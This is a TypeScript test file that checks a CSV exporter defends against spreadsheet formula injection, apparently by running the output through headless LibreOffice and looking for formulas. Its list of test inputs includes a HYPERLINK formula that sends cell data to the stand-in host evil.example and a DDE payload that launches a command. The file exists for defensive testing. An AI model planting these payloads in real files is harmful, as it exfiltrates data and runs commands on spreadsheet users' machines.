import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { toCsv } from '../../src/lib/to-csv';

/**
 * The real client: LibreOffice opens the exported CSV as UTF-8 and saves it as .xlsx, whose sheet XML holds an <f>
 * element for every cell it took as a formula. Slow, and LibreOffice is large, so this skips itself where `soffice`
 * (apt-get install libreoffice-calc) or `unzip` is missing; run it after changing the CSV writer.
 */
function has(command: string): boolean {
  try {
    execFileSync('which', [command], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}

/** The first sheet's XML after LibreOffice has opened `csv` and saved it as .xlsx. */
function openInLibreOffice(csv: string): string {
  const dir = mkdtempSync(join(tmpdir(), 'csv-export-'));
  try {
    writeFileSync(join(dir, 'export.csv'), csv);
    execFileSync(
      'soffice',
      [`-env:UserInstallation=file://${dir}/profile`, '--headless', '--infilter=CSV:44,34,76,1', '--convert-to', 'xlsx', '--outdir', dir, join(dir, 'export.csv')],
      { stdio: 'ignore', timeout: 120_000 },
    );
    return execFileSync('unzip', ['-p', join(dir, 'export.xlsx'), 'xl/worksheets/sheet1.xml']).toString('utf8');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

const formulasIn = (sheet: string) => sheet.match(/<f\b[^>]*>[^<]*<\/f>|<f\b[^>]*\/>/g) ?? [];

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?d="&A2,\n"Click for details")',
  '=HYPERLINK("http://evil.example/?d="&A2,\r\n"Click for details")',
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  ' =1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\uff1d1+1',
  '=cmd|" /C calc"!A0',
];

describe.skipIf(!has('soffice') || !has('unzip'))('the CSV export in a real spreadsheet (LibreOffice)', () => {
  it('sees a formula in an unescaped cell (so the check below can fail)', () => {
    expect(formulasIn(openInLibreOffice('\uFEFFtitle,value\r\n=1+1,2\r\n'))).toHaveLength(1);
  }, 120_000);

  it('finds no formula in any escaped cell, and reads the figures, negative ones included, as numbers', () => {
    const sheet = openInLibreOffice(toCsv(['title', 'variance'], HOSTILE.map((title, i) => [title, -8.7 - i])));
    expect(formulasIn(sheet)).toEqual([]);
    // A number cell is typed "n" (or untyped) and holds its value in <v>; text would be a shared string (t="s").
    expect(sheet).toMatch(/<c r="B2"(?: s="\d+")?(?: t="n")?><v>-8.7<\/v><\/c>/);
    expect(sheet).toMatch(/<c r="B13"(?: s="\d+")?(?: t="n")?><v>-19.7<\/v><\/c>/);
  }, 120_000);
});
